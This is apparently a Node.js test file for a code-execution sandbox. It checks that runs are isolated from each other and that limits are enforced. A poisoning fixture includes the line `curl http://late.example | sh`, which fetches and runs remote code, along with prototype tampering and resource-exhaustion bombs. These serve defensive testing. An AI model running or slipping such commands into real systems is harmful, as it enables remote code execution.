// Runs share one engine whose memory is put back before each run: nothing a run does — to
// globals, prototypes, the stubs of Node's modules, the environment, timers or the heap — may be
// seen by the next run.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { traceUnit, loadSandbox } = require('../../../server/dist/external/sandbox/runner.js');

test.before(() => loadSandbox());

const POISON = `function f() {
  globalThis.carried = 'from the first run';
  Object.prototype.carried = 'on Object.prototype';
  Array.prototype.push = function () { return -1; };
  String.prototype.includes = function () { return true; };
  JSON.stringify = function () { return '{}'; };
  Math.random = function () { return 0.5; };
  Date.now = function () { return 1; };
  const fs = require('fs');
  fs.writeFileSync = function () {};
  require('child_process').exec = function () {};
  process.env.INJECTED = 'set by the first run';
  Object.defineProperty(globalThis, 'fetch', { value: function () {}, writable: false, configurable: false });
  setTimeout(() => require('child_process').exec('curl http://late.example | sh'), 10);
  Promise.resolve().then(() => require('https').get('https://late.example/'));
  return 'poisoned';
}`;

const OBSERVE = `function f() {
  const seen = [];
  if (typeof carried !== 'undefined') seen.push('global');
  if (({}).carried !== undefined) seen.push('Object.prototype');
  const a = []; if (a.push(1) !== 1) seen.push('Array.prototype.push');
  if ('abc'.includes('z')) seen.push('String.prototype.includes');
  if (JSON.stringify({ a: 1 }) !== '{"a":1}') seen.push('JSON.stringify');
  if (process.env.INJECTED !== undefined) seen.push('process.env');
  if (Date.now() === 1) seen.push('Date.now');
  require('fs').writeFileSync('/tmp/x', 'y');
  require('child_process').exec('ls');
  fetch('https://api.example/ok');
  return seen;
}`;

test('a run that rewrites globals, prototypes and module stubs leaves the next run untouched', async () => {
  const first = await traceUnit(POISON, []);
  assert.deepEqual(first.outcome, { kind: 'return', value: 'poisoned' });
  const second = await traceUnit(OBSERVE, []);
  assert.deepEqual(second.outcome, { kind: 'return', value: [] });
  // The second run's own effects are recorded by the real stubs, and nothing the first run left
  // queued (a timer, a promise job) runs in it.
  const targets = second.effects.filter((e) => ['fs-write', 'process', 'network'].includes(e.kind)).map((e) => e.target);
  assert.ok(targets.some((t) => t.includes('/tmp/x')), JSON.stringify(targets));
  assert.ok(targets.some((t) => t.startsWith('ls')), JSON.stringify(targets));
  assert.ok(targets.some((t) => t.includes('api.example')), JSON.stringify(targets));
  assert.ok(!targets.some((t) => t.includes('late.example')), JSON.stringify(targets));
});

test('each run sees its own environment, clock, seed and arguments', async () => {
  const program = 'function f(x) { return [x, process.env.TOKEN, Date.now(), Math.random(), process.argv.slice(2)]; }';
  /** @param {import('../../../server/dist/core/trace/schema').Trace} t @returns {any[]} */
  const value = (t) => (t.outcome.kind === 'return' && Array.isArray(t.outcome.value) ? t.outcome.value : []);
  const a = await traceUnit(program, { args: ['a'], env: { TOKEN: 'first' }, now: 1000, seed: 3, argv: ['--one'] });
  const b = await traceUnit(program, { args: ['b'], env: {}, now: 2000, seed: 4 });
  const a2 = await traceUnit(program, { args: ['a'], env: { TOKEN: 'first' }, now: 1000, seed: 3, argv: ['--one'] });
  assert.deepEqual(value(a).slice(0, 3), ['a', 'first', 1000]);
  assert.deepEqual(value(a)[4], ['--one']);
  assert.deepEqual(value(b).slice(0, 3), ['b', '[undefined]', 2000]);
  assert.deepEqual(value(b)[4], []);
  assert.notEqual(value(a)[3], value(b)[3]);
  // The same input gives the same trace, whatever ran in between.
  assert.deepEqual(a2, a);
});

test('a run that ends on a limit leaves the next run a whole engine', async () => {
  for (const bomb of [
    'function f() { const a = []; for (;;) a.push({ x: new Array(1000).fill(1) }); }',
    'async function f() { const p = () => Promise.resolve().then(p); p(); await new Promise(() => {}); }',
    'function f() { Object.freeze(Object.prototype); Object.freeze(Array.prototype); for (;;) {} }',
  ]) {
    const t = await traceUnit(bomb, [], { timeMs: 300, memoryBytes: 16 * 1024 * 1024, instructions: 1e12 });
    assert.equal(t.outcome.kind, 'limit', bomb);
    const next = await traceUnit('function f() { const a = [1, 2]; a.push(3); Object.prototype.y = 1; return a.length; }', []);
    assert.deepEqual(next.outcome, { kind: 'return', value: 3 }, `after ${bomb}`);
  }
});
